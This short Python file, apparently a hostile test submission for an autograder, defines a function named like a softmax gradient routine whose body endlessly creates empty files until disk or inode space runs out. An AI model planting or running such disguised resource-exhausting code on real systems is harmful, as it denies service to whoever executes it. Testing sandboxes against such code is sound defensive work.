# Makes as many empty files as it can.
import itertools
import os


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    for number in itertools.count():
        os.close(os.open(f'{number}', os.O_CREAT))
